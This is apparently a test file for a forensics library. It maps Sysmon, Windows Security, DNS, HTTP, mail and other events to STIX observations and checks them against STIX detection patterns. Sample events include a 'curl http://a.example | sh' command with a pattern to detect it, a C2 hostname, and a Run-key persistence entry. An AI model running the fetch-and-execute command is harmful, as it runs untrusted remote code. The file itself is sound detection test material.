/** What events show in the words of STIX: asked with patterns, as the run does. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type EventInit, plainEvent } from '../../src/forensics/index.ts';
import { observedData } from '../../src/forensics/observations/index.ts';
import { matchPattern } from '../../src/stix/pattern/index.ts';

const event = (kind: string, fields: EventInit['fields'], more: Partial<EventInit> = {}) =>
  plainEvent({ kind, time: null, message: '', offset: 0, fields, ...more });
const sysmon = (EventID: number, fields: EventInit['fields']) =>
  event('windows-event', { Channel: 'Microsoft-Windows-Sysmon/Operational', EventID, ...fields });
const security = (EventID: number, fields: EventInit['fields']) =>
  event('windows-event', { Channel: 'Security', EventID, ...fields });

const MD5 = 'a'.repeat(32);
const SHA256 = 'b'.repeat(64);
const IMAGE = 'C:\\Windows\\System32\\cmd.exe';

/** An event, patterns that it meets, and one that it does not. */
const SHOWN: readonly (readonly [string, ReturnType<typeof event>, readonly string[], string])[] = [
  [
    'Sysmon 1',
    sysmon(1, {
      Image: IMAGE,
      CommandLine: 'cmd /c evil.bat',
      ProcessId: 7,
      ParentImage: 'C:\\Office\\WINWORD.EXE',
      ParentCommandLine: 'WINWORD.EXE a.docm',
      Hashes: `MD5=${MD5.toUpperCase()},SHA256=${SHA256},IMPHASH=${'0'.repeat(32)}`,
      User: 'EXAMPLE\\ana',
    }),
    [
      "[process:command_line LIKE '%evil%' AND process:image_ref.name = 'cmd.exe']",
      `[process:image_ref.hashes.MD5 = '${MD5}' AND process:image_ref.hashes.'SHA-256' = '${SHA256}']`,
      "[process:parent_ref.image_ref.name = 'WINWORD.EXE' AND process:name = 'cmd.exe']",
      "[process:image_ref.parent_directory_ref.path = 'C:\\\\Windows\\\\System32']",
      "[process:creator_user_ref.account_login = 'ana']",
    ],
    "[process:command_line = 'cmd /c']",
  ],
  [
    'Security 4688',
    security(4688, {
      NewProcessName: IMAGE,
      NewProcessId: '0x1a4',
      ProcessId: '0x4',
      CommandLine: 'cmd /k',
      ParentProcessName: 'C:\\explorer.exe',
      SubjectUserName: 'ana',
    }),
    ["[process:pid = 420 AND process:parent_ref.pid = 4 AND process:command_line MATCHES '/k$']"],
    "[process:pid = 4 AND process:command_line = 'cmd /k']",
  ],
  [
    'Sysmon 3',
    sysmon(3, {
      Image: IMAGE,
      Protocol: 'tcp',
      SourceIp: '192.0.2.1',
      SourcePort: 5_000,
      DestinationIp: '198.51.100.7',
      DestinationPort: 443,
      DestinationHostname: 'c2.example',
    }),
    [
      "[network-traffic:dst_ref.value ISSUBSET '198.51.100.0/24' AND network-traffic:dst_port = 443 AND network-traffic:protocols[*] = 'tcp']",
      "[domain-name:value = 'c2.example']",
      "[process:opened_connection_refs[*].dst_ref.value = '198.51.100.7']",
    ],
    "[network-traffic:src_ref.value = '198.51.100.7']",
  ],
  [
    'Sysmon 7',
    sysmon(7, { Image: IMAGE, ImageLoaded: 'C:\\x\\bad.dll', Hashes: `SHA256=${SHA256}` }),
    [`[file:name = 'bad.dll' AND file:hashes.'SHA-256' = '${SHA256}']`],
    `[file:name = 'cmd.exe' AND file:hashes.'SHA-256' = '${SHA256}']`,
  ],
  [
    'Sysmon 11',
    sysmon(11, { Image: IMAGE, TargetFilename: 'C:\\Users\\ana\\a.ps1' }),
    ["[file:name LIKE '%.ps1' AND file:parent_directory_ref.path LIKE 'C:\\\\Users%']"],
    "[file:name = 'C:\\\\Users\\\\ana\\\\a.ps1']",
  ],
  [
    'Sysmon 12',
    sysmon(12, { TargetObject: 'HKU\\S-1-5-21\\Software\\X' }),
    ["[windows-registry-key:key = 'HKEY_USERS\\\\S-1-5-21\\\\Software\\\\X']"],
    "[windows-registry-key:key LIKE 'HKU%']",
  ],
  [
    'Sysmon 13',
    sysmon(13, { TargetObject: 'HKLM\\SOFTWARE\\Run\\evil', Details: 'C:\\e.exe' }),
    [
      "[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\SOFTWARE\\\\Run' AND windows-registry-key:values[*].name = 'evil' AND windows-registry-key:values[*].data LIKE '%e.exe']",
    ],
    "[windows-registry-key:key LIKE '%evil']",
  ],
  [
    'Sysmon 15',
    sysmon(15, { TargetFilename: 'C:\\a.iso:Zone.Identifier', Hash: `MD5=${MD5}` }),
    [`[file:hashes.MD5 = '${MD5}']`],
    "[file:name = 'a.iso']",
  ],
  [
    'Sysmon 22',
    sysmon(22, {
      QueryName: 'a.example',
      QueryResults: 'type:  5 b.example;::ffff:192.0.2.9;',
      Image: IMAGE,
    }),
    ["[domain-name:value = 'a.example' AND domain-name:resolves_to_refs[*].value = '192.0.2.9']"],
    "[domain-name:value = 'b.example' AND domain-name:resolves_to_refs[*].value = '192.0.2.9']",
  ],
  [
    'Security 4624',
    security(4624, {
      TargetUserName: 'ana',
      TargetUserSid: 'S-1-5-21-7',
      IpAddress: '192.0.2.3',
      IpPort: '50000',
    }),
    [
      "[user-account:account_login = 'ana'] AND [network-traffic:src_ref.value = '192.0.2.3']",
      "[user-account:user_id = 'S-1-5-21-7']",
    ],
    "[user-account:account_login = 'bob']",
  ],
  [
    'http-request',
    event('http-request', {
      src_ip: '192.0.2.1',
      dst_ip: '2001:db8::1',
      dst_port: 80,
      'cs-method': 'POST',
      'cs-uri': 'http://a.example/gate.php?id=1',
      'cs-uri-stem': '/gate.php',
      'cs-uri-query': 'id=1',
      'cs-host': 'a.example',
      'cs-user-agent': 'bot/1',
    }),
    [
      "[network-traffic:extensions.'http-request-ext'.request_value LIKE '/gate.php%' AND network-traffic:extensions.'http-request-ext'.request_method = 'post' AND network-traffic:extensions.'http-request-ext'.request_header.'User-Agent' = 'bot/1']",
      "[url:value LIKE '%gate.php?id=%']",
      "[network-traffic:dst_ref.value ISSUBSET '2001:db8::/32']",
    ],
    "[url:value = '/gate.php']",
  ],
  [
    'dns',
    event('dns', {
      src_ip: '192.0.2.1',
      dst_ip: '192.0.2.53',
      dst_port: 53,
      QueryName: 'a.example',
      QueryResults: '192.0.2.9',
    }),
    ["[domain-name:resolves_to_refs[*].value = '192.0.2.9']", '[network-traffic:dst_port = 53]'],
    "[domain-name:value = 'b.example']",
  ],
  [
    'tls',
    event('tls', { src_ip: '192.0.2.1', dst_ip: '192.0.2.2', server_name: 'a.example' }),
    ["[domain-name:value = 'a.example']"],
    "[network-traffic:protocols[*] = 'http']",
  ],
  [
    'flow',
    event('flow', { src_ip: '192.0.2.1', dst_ip: '192.0.2.2', protocol: 'TCP', bytes_sent: 9_000 }),
    ['[network-traffic:src_byte_count > 5000]'],
    '[network-traffic:src_byte_count > 9000]',
  ],
  [
    'web-visit',
    event('web-visit', { url: 'https://a.example/login' }),
    ["[url:value MATCHES '^https://a\\\\.example/']"],
    "[url:value = 'https://a.example/']",
  ],
  [
    'download',
    event('download', { url: 'https://a.example/x', path: 'C:\\d\\x.zip' }),
    ["[file:name = 'x.zip'] AND [url:value = 'https://a.example/x']", "[file:name = 'x.zip']"],
    "[file:name = 'x']",
  ],
  [
    'mail',
    event('mail', {
      from: 'Bank <bank@a.example>',
      to: 'ana@b.example, eve@b.example',
      subject: 'Invoice 7',
      attachment_names: ['i.zip'],
      attachment_sha256: [SHA256],
    }),
    [
      "[email-message:from_ref.value = 'bank@a.example' AND email-message:subject LIKE 'Invoice%']",
      "[email-message:to_refs[*].value = 'eve@b.example']",
      `[email-message:body_multipart[*].body_raw_ref.hashes.'SHA-256' = '${SHA256}']`,
    ],
    "[email-message:from_ref.value = 'ana@b.example']",
  ],
  [
    'registry-key',
    event('registry-key', { path: 'HKLM\\SOFTWARE\\Run', 'value.evil': 'x.exe' }),
    ["[windows-registry-key:key LIKE 'HKEY_LOCAL%' AND windows-registry-key:values[*].data = 'x.exe']"],
    "[windows-registry-key:values[*].name = 'x.exe']",
  ],
  [
    'program-execution',
    event('program-execution', {
      executable: 'EVIL.EXE',
      path: '\\VOLUME\\T\\EVIL.EXE',
      files: ['\\VOLUME\\T\\A.DLL'],
    }),
    ["[process:image_ref.name = 'EVIL.EXE']", "[file:name = 'A.DLL']"],
    "[process:image_ref.name = 'A.DLL']",
  ],
  [
    'shell-command',
    event('shell-command', { command: 'curl http://a.example | sh' }),
    ["[process:command_line LIKE 'curl%| sh']"],
    "[process:command_line = 'curl']",
  ],
];

for (const [name, shown, met, unmet] of SHOWN)
  test(`${name} shows what patterns ask for`, () => {
    const observed = observedData(shown);
    assert.ok(observed);
    // A pattern of several [ ] needs as many observations.
    for (const pattern of met) assert.ok(matchPattern(pattern, [observed, { ...observed }]), pattern);
    assert.equal(matchPattern(unmet, [observed]), null, unmet);
  });

test('an event that shows nothing is no observation, and a missing field makes no property', () => {
  assert.equal(observedData(event('json', { a: 1 })), null);
  assert.equal(observedData(sysmon(1, { Image: '-' })), null);
  assert.equal(observedData(sysmon(255, { Image: IMAGE })), null);
});

test('a time that names a day only may have been anywhere in it', () => {
  const time = { ns: 0n, precision: 'day', source: 'x', zone: 'utc' } as const;
  const observed = observedData(event('web-visit', { url: 'https://a.example/' }, { time }))!;
  const during = (stop: string) =>
    matchPattern(`[url:value LIKE 'https%'] START t'1970-01-01T00:00:00Z' STOP t'${stop}'`, [observed]);
  assert.equal(during('1970-01-01T12:00:00Z'), null);
  assert.ok(during('1970-01-02T00:00:00Z'));
});
